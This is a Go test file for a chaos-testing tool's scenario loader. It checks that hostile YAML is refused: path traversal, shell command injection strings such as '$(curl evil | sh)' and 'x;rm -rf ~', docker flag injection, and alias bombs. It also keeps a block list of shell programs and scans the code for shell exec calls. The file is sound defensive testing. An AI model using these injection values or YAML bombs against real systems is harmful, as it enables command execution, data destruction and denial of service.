package scenarios_test

import (
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"math"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/riptidechaos/riptide/scenarios"
)

// hostileDoc is a valid scenario as a YAML tree, for the table below to
// spoil one field at a time.
func hostileDoc() map[string]any {
	return map[string]any{
		"name": "t", "duration": "10s",
		"cluster":  map[string]any{"system": "nats", "nodes": 3},
		"workload": map[string]any{"kind": "queue"},
	}
}

// set puts v at a dotted path of doc ("cluster.nodes", "faults").
func set(doc map[string]any, path string, v any) {
	keys := strings.Split(path, ".")
	m := doc
	for _, k := range keys[:len(keys)-1] {
		next, ok := m[k].(map[string]any)
		if !ok {
			next = map[string]any{}
			m[k] = next
		}
		m = next
	}
	m[keys[len(keys)-1]] = v
}

func fault(kv ...any) []any {
	f := map[string]any{}
	for i := 0; i+1 < len(kv); i += 2 {
		f[kv[i].(string)] = kv[i+1]
	}
	return []any{f}
}

// TestHostileScenariosAreRefused feeds the loader absurd and hostile
// values, one field at a time: each must be refused with a problem that
// names the field, at a position in the file, and says what is allowed.
// Names, versions, images and streams end up in file names, URLs, go
// install arguments and engine requests, so anything shell-like or
// path-like is refused outright.
func TestHostileScenariosAreRefused(t *testing.T) {
	long := strings.Repeat("a", 65)
	tests := []struct {
		name  string
		path  string
		value any
		field string
		msg   string
	}{
		{"a thousand nodes", "cluster.nodes", 1000, "cluster.nodes", "must be between 1 and 9, got 1000"},
		{"negative nodes", "cluster.nodes", -3, "cluster.nodes", "must be between 1 and 9, got -3"},
		{"negative duration", "duration", "-1s", "duration", "must be > 0 and at most 24h, got -1s"},
		{"100 hour duration", "duration", "100h", "duration", "must be > 0 and at most 24h, got 100h0m0s"},
		{"rate 1e12", "workload.rate", 1e12, "workload.rate", "must be > 0 and at most 100000 sends per second, got 1e+12"},
		{"rate that overflows the pace", "workload.rate", 1e-300, "workload.rate", "must be at least 0.01 sends per second, got 1e-300"},
		{"rate NaN", "workload.rate", math.NaN(), "workload.rate", "must be > 0 and at most 100000 sends per second, got NaN"},
		{"rate infinite", "workload.rate", math.Inf(1), "workload.rate", "must be > 0 and at most 100000 sends per second, got +Inf"},
		{"op timeout 100h", "workload.timeout", "100h", "workload.timeout", "must be > 0 and at most 5m, got 100h0m0s"},
		{"negative drain", "workload.drain", "-5s", "workload.drain", "must be > 0 and at most 10m, got -5s"},
		{"100000 producers", "workload.producers", 100000, "workload.producers", "must be between 1 and 64, got 100000"},
		{"negative consumers", "workload.consumers", -1, "workload.consumers", "must be between 0 and 64, got -1"},
		{"99 replicas", "workload.replicas", 99, "workload.replicas", "must be between 1 and 5, got 99"},
		{"name climbing out", "name", "../../etc/passwd", "name", `invalid name "../../etc/passwd"; use 1-64 letters, digits, '.', '_' or '-'`},
		{"name with a command", "name", "x;rm -rf ~", "name", "use 1-64 letters, digits"},
		{"name with a substitution", "name", "$(reboot)", "name", "use 1-64 letters, digits"},
		{"name with backquotes", "name", "x`id`", "name", "use 1-64 letters, digits"},
		{"name too long", "name", long, "name", "use 1-64 letters, digits"},
		{"name with a newline", "name", "a\nb", "name", "use 1-64 letters, digits"},
		{"version with a substitution", "cluster.version", "$(curl evil | sh)", "cluster.version", "use a release number like 2.12.1"},
		{"version with a command", "cluster.version", "2.12.1; reboot", "cluster.version", "use a release number like 2.12.1"},
		{"version climbing out", "cluster.version", "../../2.12.1", "cluster.version", "use a release number like 2.12.1"},
		{"version with a module query", "cluster.version", "2.12.1@latest", "cluster.version", "use a release number like 2.12.1"},
		{"sync interval with a substitution", "cluster.config.sync_interval", "$(reboot)", "cluster.config.sync_interval", "allowed: always or a positive duration"},
		{"a config key that opens a port", "cluster.config.listen", "0.0.0.0:4222", "cluster.config.listen", "unknown setting for nats; allowed: sync_interval"},
		{"an unknown field", "command", "rm -rf /", "command", "unknown field; allowed: name, description, seed, duration"},
		{"seed as a command", "seed", "$(id)", "seed", `expected a whole number, got "$(id)"`},
		{"stream with a space", "workload.stream", "a b", "workload.stream", "use 1-32 letters, digits, '_' or '-'"},
		{"stream with a slash", "workload.stream", "a/b", "workload.stream", "use 1-32 letters, digits, '_' or '-'"},
		{"stream climbing out", "workload.stream", "..", "workload.stream", "use 1-32 letters, digits, '_' or '-'"},
		{"stream with a wildcard", "workload.stream", "orders.>", "workload.stream", "use 1-32 letters, digits, '_' or '-'"},
		{"fault on node n0", "faults", fault("kind", "kill", "target", "n0", "at", "1s"), "faults[0].target", `unknown target "n0"; allowed: one, random-one`},
		{"fault on node n99", "faults", fault("kind", "pause", "target", "n99", "at", "1s"), "faults[0].target", "or a node name n1..n3"},
		{"fault on a node with a command", "faults", fault("kind", "kill", "nodes", []any{"n1;reboot"}, "at", "1s"), "faults[0].nodes[0]", `unknown node "n1;reboot"; allowed: n1..n3`},
		{"fault on a node path", "faults", fault("kind", "kill", "nodes", []any{"../n2"}, "at", "1s"), "faults[0].nodes[0]", "allowed: n1..n3"},
		{"a group of a thousand", "faults", fault("kind", "partition", "groups", []any{thousandNodes(), []any{"n3"}}, "at", "1s", "duration", "1s"), "faults[0].groups[0][1]", "node n1 is in more than one group"},
		{"link with a command", "faults", fault("kind", "latency", "links", []any{"n1-n2;reboot"}, "latency", "1s", "at", "1s", "duration", "1s"), "faults[0].links[0]", "write two nodes like n1-n2"},
		{"files climbing out", "faults", fault("kind", "bitflip", "target", "n1", "files", "../../etc/*", "at", "1s"), "faults[0].files", "it is matched against file names, so it cannot hold '/'"},
		{"files as an absolute path", "faults", fault("kind", "truncate", "target", "n1", "files", "/etc/passwd", "at", "1s"), "faults[0].files", "cannot hold '/'"},
		{"files as a bad glob", "faults", fault("kind", "bitflip", "target", "n1", "files", "[", "at", "1s"), "faults[0].files", `invalid glob "["`},
		{"negative flips", "faults", fault("kind", "bitflip", "target", "n1", "flips", -3, "at", "1s"), "faults[0].flips", "must be between 1 and 1048576, got -3"},
		{"a billion flips", "faults", fault("kind", "bitflip", "target", "n1", "flips", 1_000_000_000, "at", "1s"), "faults[0].flips", "must be between 1 and 1048576"},
		{"absurd truncate", "faults", fault("kind", "truncate", "target", "n1", "bytes", int64(99_999_999_999), "at", "1s"), "faults[0].bytes", "must be between 1 and 1073741824, got 99999999999"},
		{"negative limit-data", "faults", fault("kind", "limit-data", "target", "n1", "bytes", -1, "at", "1s", "duration", "1s"), "faults[0].bytes", "must be between 1 and 1073741824, got -1"},
		{"a 1000 hour latency", "faults", fault("kind", "latency", "target", "n1", "latency", "1000h", "at", "1s", "duration", "1s"), "faults[0].latency", "must be > 0 and at most 60s"},
		{"a 1000 hour fault", "faults", fault("kind", "pause", "target", "n1", "at", "1s", "duration", "1000h"), "faults[0].duration", "must be at most 24h, got 1000h0m0s"},
		{"a 1000 hour restart", "faults", fault("kind", "kill", "target", "n1", "at", "1s", "restart_after", "1000h"), "faults[0].restart_after", "must be at most 24h, got 1000h0m0s"},
		{"a fault before the start", "faults", fault("kind", "kill", "target", "n1", "at", "-1s"), "faults[0].at", "must be >= 0, got -1s"},
		{"a fault after the end", "faults", fault("kind", "kill", "target", "n1", "at", "200h"), "faults[0].at", "must be before the end of the main phase (duration 10s)"},
		{"a fault every nanosecond", "faults", fault("kind", "random", "every", "1ns", "from", []any{"kill"}, "at", "0s", "duration", "1s"), "faults[0].every", "must be at least 1s and at most 24h, got 1ns"},
		{"disk faults drawn at random", "faults", fault("kind", "random", "every", "5s", "from", []any{"bitflip"}, "at", "0s", "duration", "1s"), "faults[0].from[0]", `unknown value "bitflip"; allowed: kill, stop`},
		{"a negative allowance", "expect.lost", -1, "expect.lost", "must be a count >= 0 or allowed, got -1"},
		{"markup as an anomaly kind", "expect.<script>", 0, "expect.<script>", "unknown anomaly kind; allowed: lost"},
		{"absurd traffic floor", "checks.min_acked_before_fault", int64(99_999_999_999), "checks.min_acked_before_fault", "must be between 1 and 1000000"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			doc := hostileDoc()
			set(doc, tt.path, tt.value)
			b, err := yaml.Marshal(doc)
			require.NoError(t, err)
			requireRefused(t, b, tt.field, tt.msg)
		})
	}
}

// thousandNodes is one partition side naming n1 a thousand times.
func thousandNodes() []any {
	side := make([]any, 1000)
	for i := range side {
		side[i] = "n1"
	}
	return side
}

// docker-only fields: an image is a reference, never a command line.
func TestHostileImagesAreRefused(t *testing.T) {
	for _, image := range []string{"nats;reboot", "nats:2.12.1 --privileged", "$(id)", "nats\n", "-v/:/host", "../nats"} {
		t.Run(image, func(t *testing.T) {
			doc := hostileDoc()
			set(doc, "cluster.platform", "docker")
			set(doc, "cluster.image", image)
			b, err := yaml.Marshal(doc)
			require.NoError(t, err)
			requireRefused(t, b, "cluster.image", "invalid image reference")
		})
	}
}

// TestHostileFilesAreRefused covers input that attacks the parser rather
// than a field: each is refused with a bounded answer, quickly, without
// a panic.
func TestHostileFilesAreRefused(t *testing.T) {
	laughs := "a: &a [x, x, x, x, x, x, x, x, x]\n"
	for i, c := range "bcdefghi" {
		prev := string(rune('a' + i))
		laughs += string(c) + ": &" + string(c) + " [" + strings.Repeat("*"+prev+", ", 8) + "*" + prev + "]\n"
	}
	laughs += "name: t\nfaults: *i\n"
	tests := []struct {
		name, src, msg string
	}{
		{"billion laughs", laughs, "unknown field"},
		{"eleven megabytes", "name: t\ndescription: \"" + strings.Repeat("x", 11<<20) + "\"\n", "file is larger than 1048576 bytes"},
		{"deeply nested", "name: " + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + "\n", ""},
		{"binary", "\x00\x01\x02\xff\xfe", "invalid YAML"},
		{"many documents", "name: t\n---\nname: u\n", "more than one YAML document"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := scenarios.Parse("x.yaml", []byte(tt.src))
			require.Nil(t, s)
			var probs *scenarios.Problems
			require.ErrorAs(t, err, &probs)
			require.LessOrEqual(t, len(probs.List()), 101, "the answer is bounded")
			require.Contains(t, err.Error(), tt.msg)
		})
	}
}

// aliasBomb is the tester's file: k faults, each an alias of one partition
// whose k groups are aliases of one list of k nodes, k³ values in all.
func aliasBomb(k int) string {
	list := func(item string) string { return "[" + strings.TrimSuffix(strings.Repeat(item+", ", k), ", ") + "]" }
	return "name: t\nduration: 20s\ncluster: {system: nats, nodes: 5}\nworkload: {kind: queue, rate: 100}\n" +
		"x: &g " + list("n1") + "\n" +
		"y: &f {kind: partition, at: 1s, duration: 2s, groups: " + list("*g") + "}\n" +
		"faults: " + list("*f") + "\n"
}

// TestAliasesAreBounded feeds files that are small but whose aliases stand
// for millions of values: each is refused with one problem at the alias
// where the bound was crossed, having read only a bounded part of it. The
// bound is on the work, so the test measures the memory allocated rather
// than the time taken.
func TestAliasesAreBounded(t *testing.T) {
	// Aliases of aliases of aliases: the faults are an alias of a list of
	// aliased faults, whose groups are an alias of a list of aliased lists.
	chain := "name: t\nduration: 20s\ncluster: {system: nats, nodes: 5}\nworkload: {kind: queue}\n" +
		"g: &g [" + strings.Repeat("n1, ", 99) + "n1]\n" +
		"gs: &gs [" + strings.Repeat("*g, ", 99) + "*g]\n" +
		"f: &f {kind: partition, at: 1s, duration: 2s, groups: *gs}\n" +
		"fs: &fs [" + strings.Repeat("*f, ", 99) + "*f]\n" +
		"faults: *fs\n"
	// Anchors inside the faults themselves, no unknown fields needed.
	nodes := "name: t\nduration: 20s\ncluster: {system: nats}\nworkload: {kind: queue}\nfaults:\n" +
		"  - &k {kind: kill, at: 1s, nodes: &n [" + strings.Repeat("n1, ", 499) + "n1]}\n" +
		"  - {kind: stop, at: 1s, nodes: *n}\n" + strings.Repeat("  - *k\n", 100)
	tests := []struct {
		name, src, pos, field string
	}{
		// Each fault is 2555 values: the fourth crosses the bound.
		{"groups of aliased lists in aliased faults (k=50)", aliasBomb(50), "7:22", "faults[3]"},
		{"groups of aliased lists in aliased faults (k=200)", aliasBomb(200), "7:10", "faults[0]"},
		{"aliases of aliases of aliases", chain, "9:9", "faults"},
		// 501 values for the stop's nodes, then 504 for each kill.
		{"aliased node lists", nodes, "26:5", "faults[20]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			_, err := scenarios.Parse("x.yaml", []byte(tt.src))
			runtime.ReadMemStats(&after)
			var probs *scenarios.Problems
			require.ErrorAs(t, err, &probs)
			var found bool
			for _, p := range probs.List() {
				if strings.Contains(p.Msg, "aliases expand to more than 10000 values") {
					found = true
					require.Equal(t, tt.pos+" "+tt.field, posString(p.Pos)+" "+p.Field, "%s", p)
				}
			}
			require.True(t, found, "no aliasing problem in:\n%v", err)
			require.NotContains(t, err.Error(), "too many problems", "stopped by the aliases, not by the problems")
			// Reading 10000 values takes a few MB; the 8 million of the
			// k=200 file took 5.9 GB.
			require.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(32<<20), "bytes allocated")
		})
	}
}

// Aliases a scenario has a use for still work, within the bound; merge
// keys are refused as before, with the same message, whatever the bound.
func TestAliasesWithinTheBound(t *testing.T) {
	src := `name: t
duration: 60s
cluster: {system: nats, nodes: 3}
workload: {kind: queue}
faults:
  - &kill {kind: kill, target: n1, at: 5s}
  - *kill
  - {kind: partition, at: 20s, duration: 5s, groups: &sides [[n1], [n2, n3]]}
  - {kind: partition, at: 40s, duration: 5s, groups: *sides}
`
	s, err := scenarios.Parse("x.yaml", []byte(src))
	require.NoError(t, err)
	require.Len(t, s.Faults, 4)
	require.Equal(t, s.Faults[0], s.Faults[1])
	require.Equal(t, [][]string{{"n1"}, {"n2", "n3"}}, s.Faults[3].Groups)

	// 2400 aliases of a fault of three fields are 9600 values: within it.
	big := src + strings.Repeat("  - *kill\n", 2400)
	s, err = scenarios.Parse("x.yaml", []byte(big))
	require.NoError(t, err)
	require.Len(t, s.Faults, 2404)

	_, err = scenarios.Parse("x.yaml", []byte(src+"  - <<: *kill\n    at: 50s\n"))
	require.ErrorContains(t, err, "x.yaml:10:5: faults[4]: merge keys (<<) are not supported; write the fields out")
	require.NotContains(t, err.Error(), "aliases expand")
}

func requireRefused(t *testing.T, src []byte, field, msg string) {
	t.Helper()
	s, err := scenarios.Parse("x.yaml", src)
	require.Nil(t, s, "accepted:\n%s", src)
	var probs *scenarios.Problems
	require.ErrorAs(t, err, &probs)
	for _, p := range probs.List() {
		if p.Field == field && strings.Contains(p.Msg, msg) {
			require.Positive(t, p.Pos.Line, "the problem points at its line: %s", p)
			return
		}
	}
	t.Fatalf("no problem of %s saying %q; got:\n%v\nfor:\n%s", field, msg, err, src)
}

// TestNoShellInExecCalls reads every program riptide runs (the exec calls
// of its non-test Go files) and requires that none is a shell: scenario
// values (a binary path, a version) reach a child process only as whole
// argv elements, never as a command line that a shell would split or
// expand.
func TestNoShellInExecCalls(t *testing.T) {
	shells := map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ash": true, "ksh": true,
		"/bin/sh": true, "/bin/bash": true, "/usr/bin/env": true, "env": true, "cmd": true, "cmd.exe": true, "powershell": true}
	fset := token.NewFileSet()
	var sites []string
	err := filepath.WalkDir("..", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "testdata" || strings.HasPrefix(d.Name(), ".")) && path != ".." {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		f, err := parser.ParseFile(fset, path, nil, 0)
		if err != nil {
			return err
		}
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := call.Fun.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			pkg, ok := sel.X.(*ast.Ident)
			if !ok {
				return true
			}
			prog := -1
			switch {
			case pkg.Name == "exec" && sel.Sel.Name == "Command":
				prog = 0
			case pkg.Name == "exec" && sel.Sel.Name == "CommandContext":
				prog = 1
			case pkg.Name == "os" && sel.Sel.Name == "StartProcess", pkg.Name == "syscall" && sel.Sel.Name == "Exec":
				prog = 0
			}
			if prog < 0 || prog >= len(call.Args) {
				return true
			}
			pos := fset.Position(call.Pos())
			sites = append(sites, pos.String())
			if lit, ok := call.Args[prog].(*ast.BasicLit); ok && lit.Kind == token.STRING {
				name, _ := strconv.Unquote(lit.Value)
				require.False(t, shells[name] || shells[filepath.Base(name)], "%s runs a shell (%s)", pos, name)
			}
			for _, a := range call.Args[prog+1:] {
				if lit, ok := a.(*ast.BasicLit); ok && lit.Value == `"-c"` {
					t.Errorf("%s passes -c, as to a shell", pos)
				}
			}
			return true
		})
		return nil
	})
	require.NoError(t, err)
	// The scan must have found something, or it is looking at nothing.
	require.NotEmpty(t, sites, "no exec call found: the scan is broken")
	t.Logf("exec call sites: %s", strings.Join(sites, ", "))
}
